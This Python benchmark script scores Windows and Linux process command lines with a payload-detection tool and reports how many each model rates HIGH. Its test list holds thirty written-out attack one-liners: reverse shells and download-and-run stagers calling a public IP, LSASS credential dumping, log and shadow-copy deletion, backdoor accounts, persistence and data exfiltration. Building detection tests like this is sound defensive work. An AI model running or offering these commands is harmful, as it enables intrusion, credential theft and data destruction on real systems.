#!/usr/bin/env python3
"""Payload verdicts on process-creation telemetry: what a Windows host logs, not what a
command corpus writes.

The command lines of every process creation (Sysmon event 1, Security 4688) in
`../shared/data/otrf/` (real lab hosts, background included) and `../shared/data/netgraph/`
(labelled per event), each distinct line once, are scored by `warden analyze --jsonl` with
each model given. Printed per model and set: the verdict levels of

  - background: lines whose image is a program every Windows host runs on its own (service
    hosts, COM servers, the shell, browsers' child processes, Office, updaters — the list
    below, fixed before any model was scored on these files);
  - the other lines of OTRF (the techniques the datasets record, and whatever else ran);
  - netgraph's lines, benign and malicious by its labels, counted per event as well;
  - 30 command lines of a Linux server's own processes (daemons as systemd starts them,
    cron's `/bin/sh -c`, package and backup jobs), written for this script: no shared file
    has Linux process telemetry;
  - 30 attack one-liners, also written for this script and in no corpus: droppers and
    stagers on a public address, reverse shells, persistence, credential dumping, log
    clearing, a reverse SSH tunnel — the text as an attacker types it, not as a corpus
    documents it. Every one should reach HIGH.

With `--evtx`, also the EVTX files of `../shared/data/evtx-attack-samples/` (needs the
`python-evtx` package).

  bench/payload_telemetry.py --warden target/release/warden --model A.wpld --model B.wpld
"""

import argparse
import collections
import glob
import gzip
import html
import json
import os
import re
import subprocess
import sys
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "..", "..", "shared", "data")

BACKGROUND = set(
    """svchost conhost runtimebroker dllhost wmiprvse backgroundtaskhost searchprotocolhost
    searchfilterhost searchindexer taskhostw msedge chrome firefox onedrive msmpeng
    trustedinstaller tiworker sppsvc smartscreen compattelrunner musnotification wuauclt
    sihost ctfmon userinit identity_helper comppkgsrv tstheme wermgr werfault mpcmdrun
    sdiagnhost taskeng lsass services winlogon smss csrss wininit audiodg fontdrvhost dwm
    searchui shellexperiencehost startmenuexperiencehost applicationframehost systemsettings
    usocoreworker mousocoreworker sgrmbroker securityhealthservice securityhealthsystray
    officeclicktorun microsoftedgeupdate googleupdate vmtoolsd mobsync wsqmcons devicecensus
    dashost unsecapp wlanext rdpclip""".split()
)
LINUX_BACKGROUND = r"""/usr/sbin/sshd -D
/lib/systemd/systemd-journald
/usr/bin/python3 /usr/bin/unattended-upgrade --download-only
/bin/sh -c run-parts --report /etc/cron.daily
/usr/sbin/cron -f
/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only
/usr/lib/postfix/sbin/master -w
/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock
/usr/sbin/rsyslogd -n -iNONE
/sbin/agetty -o -p -- \u --noclear tty1 linux
/usr/bin/sudo apt-get update
/usr/lib/apt/methods/http
/usr/bin/gpgv --homedir /tmp/apt-key-gpghome.QxV2 --keyring /tmp/apt-key-gpghome.QxV2/pubring.gpg --status-fd 3
/bin/bash /usr/local/bin/backup.sh
/usr/bin/rsync -az /var/www/ backup@10.0.0.5:/srv/backup/www/
/usr/sbin/logrotate /etc/logrotate.conf
/usr/bin/find /tmp -type f -atime +10 -delete
/usr/bin/tar -czf /var/backups/etc.tgz /etc
/usr/lib/openssh/sftp-server
/usr/bin/ssh -o BatchMode=yes git@github.com git-upload-pack 'org/repo.git'
/usr/bin/curl -fsS https://api.example.com/health
/usr/bin/systemctl is-active nginx
/usr/sbin/nginx -g daemon on; master_process on;
/usr/bin/java -Xmx2g -jar /opt/app/app.jar
/usr/bin/node /srv/app/server.js
/usr/bin/crontab -l
/usr/bin/id -u
/usr/bin/uname -a
/usr/bin/ps aux
/usr/bin/top -b -n 1""".splitlines()
ATTACK_ONE_LINERS = r"""bash -i >& /dev/tcp/45.9.148.3/4444 0>&1
nc -e /bin/sh 45.9.148.3 4444
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("45.9.148.3",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'
powershell -w hidden -c "IEX(IWR http://45.9.148.3/a.ps1 -UseBasicParsing)"
certutil -urlcache -split -f http://45.9.148.3/a.exe %TEMP%\a.exe && %TEMP%\a.exe
mshta http://45.9.148.3/a.hta
regsvr32 /s /n /u /i:http://45.9.148.3/a.sct scrobj.dll
schtasks /create /sc minute /mo 5 /tn upd /tr "powershell -w hidden -c iex(iwr http://45.9.148.3/a)"
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\u.exe /f
vssadmin delete shadows /all /quiet
wevtutil cl Security
procdump -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp
rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@y' >> /root/.ssh/authorized_keys
(crontab -l; echo "*/5 * * * * curl -s http://45.9.148.3/x | sh") | crontab -
chmod u+s /bin/bash
nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44abc -k &
Set-MpPreference -DisableRealtimeMonitoring $true
net user backdoor P@ssw0rd1 /add && net localgroup administrators backdoor /add
tar czf - /home | curl -X POST --data-binary @- http://45.9.148.3/up
echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMy94IHwgc2g= | base64 -d | sh
wget -q http://45.9.148.3/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k
curl -s http://45.9.148.3/k -o /dev/shm/k && chmod 755 /dev/shm/k && /dev/shm/k
bitsadmin /transfer j /download /priority high http://45.9.148.3/a.exe C:\Users\Public\a.exe
(New-Object Net.WebClient).DownloadFile('http://45.9.148.3/a.exe',"$env:TEMP\a.exe"); Start-Process "$env:TEMP\a.exe"
ssh -R 8080:localhost:22 u@45.9.148.3 -N -f
socat TCP:45.9.148.3:4444 EXEC:/bin/bash
mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.9.148.3 4444 > /tmp/f
powershell -nop -w hidden -ep bypass -c "$c=New-Object Net.Sockets.TCPClient('45.9.148.3',443)"
history -c && rm -f ~/.bash_history""".splitlines()
LEVELS = ["LOW", "MEDIUM", "HIGH", "CRITICAL"]


def image(text):
    """The bare name of the program a command line starts."""
    t = text.strip()
    if t.startswith('"'):
        p = t[1:].split('"', 1)[0]
    else:
        p = t.split(" ", 1)[0]
    p = p.replace("/", "\\").split("\\")[-1].lower()
    return p[:-4] if p.endswith(".exe") else p


def otrf_lines(root):
    lines = collections.Counter()
    for z in sorted(glob.glob(os.path.join(root, "**", "*.zip"), recursive=True)):
        with zipfile.ZipFile(z) as f:
            for name in f.namelist():
                for raw in f.open(name):
                    try:
                        r = json.loads(raw)
                    except ValueError:
                        continue
                    c = r.get("CommandLine") or r.get("ProcessCommandLine")
                    if isinstance(c, str) and c.strip():
                        lines[c.strip()] += 1
    return lines


def netgraph_lines(root):
    labels = {}
    with gzip.open(os.path.join(root, "labels.jsonl.gz"), "rt") as f:
        for raw in f:
            r = json.loads(raw)
            labels[(r["computer"], r["record_id"])] = r["label"]
    lines = collections.defaultdict(collections.Counter)
    with gzip.open(os.path.join(root, "events.jsonl.gz"), "rt") as f:
        for raw in f:
            e = json.loads(raw)["Event"]
            if e["System"]["EventID"] != 1:
                continue
            c = e["EventData"].get("CommandLine")
            key = (e["System"]["Computer"], e["System"]["EventRecordID"])
            malicious = labels.get(key, "normal").startswith("attack")
            lines[c][malicious] += 1
    return lines


def evtx_lines(root):
    import Evtx.Evtx as evtx  # python-evtx

    pat = re.compile(r'<Data Name="(?:CommandLine|ProcessCommandLine)">(.*?)</Data>', re.S)
    lines = collections.Counter()
    for path in sorted(glob.glob(os.path.join(root, "**", "*.evtx"), recursive=True)):
        try:
            with evtx.Evtx(path) as log:
                for rec in log.records():
                    try:
                        xml = rec.xml()
                    except Exception:  # a damaged record: the rest of the file still counts
                        continue
                    for m in pat.finditer(xml):
                        c = html.unescape(m.group(1)).strip()
                        if c:
                            lines[c] += 1
        except Exception as e:  # noqa: BLE001 — a file python-evtx cannot open
            print(f"skipped {path}: {e}", file=sys.stderr)
    return lines


def score(warden, model, texts):
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl", delete=False) as f:
        for i, t in enumerate(texts):
            f.write(json.dumps({"id": str(i), "text": t}) + "\n")
        path = f.name
    try:
        out = subprocess.run(
            [warden, "analyze", "--jsonl", path, "--model", model],
            check=True,
            capture_output=True,
            text=True,
        ).stdout
    finally:
        os.unlink(path)
    levels = {}
    for raw in out.splitlines():
        v = json.loads(raw)
        levels[int(v["id"])] = v["level"]
    return [levels[i] for i in range(len(texts))]


def table(levels):
    c = collections.Counter(levels)
    high = c["HIGH"] + c["CRITICAL"]
    return " / ".join(str(c[l]) for l in LEVELS) + f" — HIGH or above {high} of {len(levels)}"


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--warden", default=os.path.join(HERE, "..", "target", "release", "warden"))
    ap.add_argument("--model", action="append", required=True, help="a payload model file (repeat)")
    ap.add_argument("--data", default=DATA)
    ap.add_argument("--evtx", action="store_true", help="also the EVTX attack samples (python-evtx)")
    args = ap.parse_args()

    otrf_root = os.path.join(args.data, "otrf")
    net_root = os.path.join(args.data, "netgraph")
    if not os.path.isdir(otrf_root) or not os.path.isdir(net_root):
        sys.exit(f"skipped: {otrf_root} or {net_root} is not there")
    host = otrf_lines(otrf_root)
    if args.evtx:
        host.update(evtx_lines(os.path.join(args.data, "evtx-attack-samples")))
    texts = sorted(host)
    background = [image(t) in BACKGROUND for t in texts]
    net = netgraph_lines(net_root)
    net_texts = sorted(net)
    print(f"host logs: {len(texts)} distinct command lines, {sum(background)} of background programs; "
          f"netgraph: {len(net_texts)} distinct lines")
    print("levels: LOW / MEDIUM / HIGH / CRITICAL")
    for model in args.model:
        lv = score(args.warden, model, texts)
        nlv = score(args.warden, model, net_texts)
        llv = score(args.warden, model, LINUX_BACKGROUND)
        print(f"\n{model}")
        print("  host logs, background:   " + table([l for l, b in zip(lv, background) if b]))
        print("  host logs, other lines:  " + table([l for l, b in zip(lv, background) if not b]))
        print("  Linux server processes:  " + table(llv))
        alv = score(args.warden, model, ATTACK_ONE_LINERS)
        print("  attack one-liners:       " + table(alv))
        for l, t in zip(alv, ATTACK_ONE_LINERS):
            if l not in ("HIGH", "CRITICAL"):
                print(f"    {l}: {t}")
        for malicious, name in ((False, "benign"), (True, "malicious")):
            rows = [(l, net[t][malicious]) for l, t in zip(nlv, net_texts) if net[t][malicious]]
            events = sum(n for _, n in rows)
            high = sum(n for l, n in rows if l in ("HIGH", "CRITICAL"))
            print(f"  netgraph, {name + ' lines:':17} " + table([l for l, _ in rows])
                  + f"; events at HIGH or above {high} of {events}")


if __name__ == "__main__":
    main()
